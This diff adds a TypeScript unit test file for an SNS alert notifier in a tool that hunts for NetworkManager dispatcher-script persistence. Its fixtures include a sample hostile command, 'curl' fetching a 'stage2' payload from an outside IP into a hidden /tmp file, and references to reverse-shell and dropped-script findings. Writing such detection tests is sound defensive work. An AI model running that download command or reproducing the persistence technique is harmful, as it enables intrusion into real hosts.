@@ -1,0 +1,111 @@
+import assert from 'node:assert/strict';
+import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { describe, it } from 'node:test';
+import { PublishCommand, SNSClient } from '@aws-sdk/client-sns';
+import { mockClient } from 'aws-sdk-client-mock';
+import { SnsNotifier } from '../functions/adapters/sns-notifier';
+import type { AlertReport } from '../functions/core/alert-report';
+import { renderPublishInput } from '../functions/core/render/publish-input';
+import { DROPPED_SCRIPT, REVERSE_SHELL, alertFor, newFindingsReport, summary } from './support/reports';
+import { childFinding, writeFinding } from './support/harness';
+
+const TOPIC = 'arn:aws:sns:eu-west-1:111122223333:nm-dispatcher-hunt-alerts';
+const OPTIONS = { kibanaUrl: 'https://kibana.example.com' };
+const EXAMPLES = new URL('../docs/examples/', import.meta.url);
+
+/** Compares with the committed example, or rewrites it with UPDATE_EXAMPLES=1. */
+function matchesExample(name: string, actual: string) {
+  const path = new URL(name, EXAMPLES);
+  if (process.env.UPDATE_EXAMPLES === '1') {
+    mkdirSync(EXAMPLES, { recursive: true });
+    writeFileSync(path, actual.endsWith('\n') ? actual : `${actual}\n`);
+  }
+  assert.equal(`${actual.replace(/\n$/, '')}\n`, readFileSync(path, 'utf8'), `${name} differs: run UPDATE_EXAMPLES=1 npm run test:unit and review the diff`);
+}
+
+const scenarios: Record<string, AlertReport> = {
+  'one-new-finding': newFindingsReport([alertFor(DROPPED_SCRIPT, 'path never seen')]),
+  'attack-across-both-hunts': newFindingsReport([
+    alertFor(DROPPED_SCRIPT, 'path never seen'),
+    alertFor(writeFinding('/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh', '/usr/bin/sed', { hostNames: ['web-03'], agentIds: ['5f1c2a9e-agent-web-03'] }), 'path known (written by /usr/bin/bash), new writer /usr/bin/sed'),
+    alertFor(REVERSE_SHELL, 'parent never seen'),
+    alertFor(childFinding('/etc/NetworkManager/dispatcher.d/01-ifupdown', '/usr/bin/curl', 'curl -fsS https://203.0.113.66/stage2 -o /tmp/.x'), 'parent known with 2 other children, new child /usr/bin/curl', true),
+  ]),
+  'baseline-initialised': {
+    kind: 'baseline-initialised',
+    summary: summary({ learning: true, totals: { ...summary().totals, learned: 17, known: 0 } }, [{ learning: true, learned: 9, known: 0 }, { learning: true, learned: 8, known: 0 }]),
+  },
+  'failed-and-truncated-hunts': newFindingsReport([alertFor(DROPPED_SCRIPT, 'path never seen')], {
+    outcome: 'failed',
+    hunts: summary({}, [{ status: 'failed', rows: 0, known: 0, error: 'Elasticsearch denied the query (403): the credentials need the "read" and "view_index_metadata" index privileges on logs-endpoint.events.process-*' }, { truncated: true, rows: 100, new: 1, known: 99 }]).hunts,
+    problems: [
+      'dispatcher-child-process failed: Elasticsearch denied the query (403): the credentials need the "read" and "view_index_metadata" index privileges on logs-endpoint.events.process-*',
+      'dispatcher-script-write returned its row limit of 100: rarer rows are listed first, more common ones may be missing. Narrow the lookback or add exclusions.',
+    ],
+  }),
+};
+
+describe('the SNS message', () => {
+  for (const [name, report] of Object.entries(scenarios)) {
+    it(`publishes exactly the committed example for ${name}`, async () => {
+      const sns = mockClient(SNSClient);
+      sns.on(PublishCommand).resolves({ MessageId: 'mid-1' });
+      const id = await new SnsNotifier(new SNSClient({ region: 'eu-west-1' }), TOPIC, OPTIONS).publish(report);
+      assert.equal(id, 'mid-1');
+      const calls = sns.commandCalls(PublishCommand);
+      assert.equal(calls.length, 1);
+      const input = calls[0]!.args[0].input;
+      const bodies = JSON.parse(input.Message!) as { default: string; email: string; https: string };
+      matchesExample(`${name}.publish-input.json`, JSON.stringify({ ...input, Message: '(the three bodies below)' }, null, 2));
+      matchesExample(`${name}.email.txt`, `Subject: ${input.Subject}\n\n${bodies.email}`);
+      matchesExample(`${name}.slack.json`, JSON.stringify(JSON.parse(bodies.https), null, 2));
+      matchesExample(`${name}.default.json`, JSON.stringify(JSON.parse(bodies.default), null, 2));
+      assert.deepEqual(Object.keys(bodies), ['default', 'email', 'https']);
+      assert.equal(input.MessageStructure, 'json');
+      assert.equal(input.TopicArn, TOPIC);
+      sns.restore();
+    });
+  }
+
+  it('carries attributes for subscription filter policies', () => {
+    const input = renderPublishInput(scenarios['attack-across-both-hunts']!);
+    assert.deepEqual(input.MessageAttributes, {
+      kind: { DataType: 'String', StringValue: 'new-findings' },
+      severity: { DataType: 'String', StringValue: 'medium' },
+      huntIds: { DataType: 'String.Array', StringValue: '["dispatcher-script-write","dispatcher-child-process"]' },
+      newFindings: { DataType: 'Number', StringValue: '4' },
+    });
+    assert.equal(input.Subject, '[nm-dispatcher-hunt] 4 new findings (dispatcher-script-write, dispatcher-child-process)');
+  });
+
+  it('says why each finding is new and gives a ready osquery query for its script', () => {
+    const { email } = JSON.parse(renderPublishInput(scenarios['attack-across-both-hunts']!, OPTIONS).Message) as { email: string };
+    assert.match(email, /why new: path known \(written by \/usr\/bin\/bash\), new writer \/usr\/bin\/sed/);
+    assert.match(email, /WHERE f\.path = '\/etc\/NetworkManager\/dispatcher\.d\/panix-dispatcher\.sh';/);
+    assert.match(email, /kibana: https:\/\/kibana\.example\.com\/app\/discover#\/\?_g=/);
+    assert.match(email, /re-sent: an earlier run could not confirm this alert/);
+  });
+
+  it('fails loudly when SNS does', async () => {
+    const sns = mockClient(SNSClient);
+    sns.on(PublishCommand).rejects(new Error('AuthorizationError: not allowed to publish'));
+    await assert.rejects(new SnsNotifier(new SNSClient({ region: 'eu-west-1' }), TOPIC).publish(scenarios['one-new-finding']!), /not allowed to publish/);
+    sns.restore();
+  });
+
+  it('stays under 256 KB with 10,000 new findings and says how many were left out', () => {
+    const alerts = Array.from({ length: 10_000 }, (_, i) =>
+      alertFor(childFinding(`/etc/NetworkManager/dispatcher.d/${i}-${'x'.repeat(3_000)}`, '/usr/bin/curl', `curl ${'A'.repeat(5_000)} ${i}`, { eventCount: 1 + (i % 13) }), 'parent never seen'),
+    );
+    const input = renderPublishInput(newFindingsReport(alerts));
+    const bytes = Buffer.byteLength(input.Message) + Buffer.byteLength(input.Subject) + Buffer.byteLength(JSON.stringify(input.MessageAttributes));
+    assert.ok(bytes < 256 * 1024, `${bytes} bytes`);
+    const bodies = JSON.parse(input.Message) as { default: string; email: string; https: string };
+    const structured = JSON.parse(bodies.default) as { newFindings: { total: number; listed: number; omitted: number } };
+    assert.equal(structured.newFindings.total, 10_000);
+    assert.equal(structured.newFindings.listed + structured.newFindings.omitted, 10_000);
+    assert.match(bodies.email, /\d+ more new findings not shown here/);
+    assert.match(bodies.email, /baseline list --status alerted/);
+    assert.equal(input.MessageAttributes.newFindings!.StringValue, '10000');
+  });
+});
